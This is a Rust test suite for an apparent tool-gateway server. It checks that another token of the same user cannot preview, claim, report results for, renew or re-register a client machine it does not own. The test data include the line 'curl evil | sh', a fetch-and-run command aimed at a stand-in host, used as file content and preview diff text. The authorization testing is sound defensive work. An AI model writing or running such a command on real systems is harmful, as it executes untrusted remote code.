//! A machine's registration belongs to its token: what other tokens of the same user can do with
//! its id.

use super::*;

/// TL-06.1: a second client token shows something else than the call would do. It is nobody to
/// the gate, and the person sees only what the machine shows.
#[rstest]
#[tokio::test]
async fn another_token_cannot_show_a_preview_for_a_machine(
    #[values(Sqlite, Postgres)] backend: Backend,
) {
    let server = start(backend).await;
    let mut setup = GateSetup::new(server.user("ann")).await;
    let thief = server.program("ann", "client", &setup.project);
    assert_eq!(thief.claims()["sub"], setup.user.claims()["sub"]);
    let call =
        setup.execute("write_file", json!({"path": "a.sh", "content": "curl evil | sh\n"})).await;
    let wanted = setup.until("TOOL_PREVIEW_REQUEST").await;
    assert_eq!(wanted.data["client_id"], json!(setup.client));
    // The id and the checksum are right: both can be known to every token of the user.
    let path = setup.path(&format!("tools/{}/preview", id(&call)));
    let preview =
        |diff: &str| json!({"client_id": setup.client, "base_checksum": "c0ffee", "diff": diff});
    assert_eq!(thief.post(&path, preview("+harmless\n")).await.problem(), (404, "not_found"));
    let failed =
        json!({"client_id": setup.client, "error": {"code": "not_found", "detail": "gone"}});
    assert_eq!(thief.post(&path, failed).await.problem(), (404, "not_found"));
    assert_eq!(setup.show(&call).await["status"], "previewing");
    let asked = setup.user.post(&path, preview("+curl evil | sh\n")).await.expect(200);
    assert_eq!(asked["preview"]["diff"], "+curl evil | sh\n");
}

/// TL-06.1: claims, results, heartbeats and disconnecting are refused like those of an unknown
/// machine.
#[rstest]
#[tokio::test]
async fn another_token_cannot_act_for_a_machine(#[values(Sqlite, Postgres)] backend: Backend) {
    let server = start(backend).await;
    let mut setup = GateSetup::new(server.user("ann")).await;
    let thief = server.program("ann", "client", &setup.project);
    let call = setup.execute("read_file", json!({"path": "a"})).await;
    let signal = setup.until("TOOL_EXECUTION_SIGNAL").await;
    let tool = setup.path(&format!("tools/{}", id(&call)));
    let client = setup.path(&format!("clients/{}", setup.client));
    let claim = json!({"client_id": setup.client, "attempt": 1});
    let result = json!({"client_id": setup.client, "attempt": 1, "result": {"success": true, "content": "evil"}});
    assert_eq!(thief.post(&format!("{tool}/claim"), claim).await.problem(), (404, "not_found"));
    assert_eq!(
        thief.post(&format!("{tool}/result"), result.clone()).await.problem(),
        (404, "not_found")
    );
    assert_eq!(
        thief.post(&format!("{client}/renew"), json!(null)).await.problem(),
        (404, "not_found")
    );
    assert_eq!(thief.delete(&client).await.problem(), (404, "not_found"));
    setup.claim(&signal).await.expect(200);
    assert_eq!(thief.post(&format!("{tool}/result"), result).await.problem(), (404, "not_found"));
    let done = setup.result(&signal, json!({"success": true, "content": "true"})).await.expect(200);
    assert_eq!(done["result"]["content"], "true");
}

/// TL-06.1: a registration cannot be replaced by another token, and belongs to what its own token
/// is renewed to.
#[rstest]
#[tokio::test]
async fn registration_belongs_to_its_token(#[values(Sqlite, Postgres)] backend: Backend) {
    let server = start(backend).await;
    let setup = GateSetup::new(server.user("ann")).await;
    let call = setup.execute("create_directory", json!({"path": "d"})).await;
    setup.decide(&call, "approve", json!({"scope": "class"})).await.expect(200);
    let thief = server.program("ann", "client", &setup.project);
    let register = json!({
        "client_id": setup.client, "root": "/elsewhere", "os": "linux", "isolation": {}, "resumed": true,
    });
    let refused = thief.post(&setup.path("clients"), register.clone()).await;
    assert_eq!(refused.problem(), (409, "client_taken"));
    let clients = setup.user.get(&setup.path("clients")).await.expect(200);
    assert_eq!(
        (&clients["total"], &clients["clients"][0]["root"]),
        (&json!(1), &json!("/home/ann/shop"))
    );

    let renewed = setup.user.post("/auth/refresh", json!({})).await.expect(200);
    let renewed = server.bearer(renewed["token"].as_str().unwrap());
    let path = setup.path(&format!("clients/{}/renew", setup.client));
    renewed.post(&path, json!(null)).await.expect(200);
    renewed.post(&setup.path("clients"), register.clone()).await.expect(200);
    let grants = async || setup.user.get(&setup.path("grants")).await.expect(200)["total"].clone();
    assert_eq!(grants().await, 1, "the same machine came back");

    // An id that was given up is free. Whoever takes it inherits nothing.
    setup.user.delete(&setup.path(&format!("clients/{}", setup.client))).await.expect(204);
    thief.post(&setup.path("clients"), register).await.expect(200);
    assert_eq!(grants().await, 0);
    assert_eq!(
        setup.post(&format!("clients/{}/renew", setup.client), json!(null)).await.status,
        404
    );
}
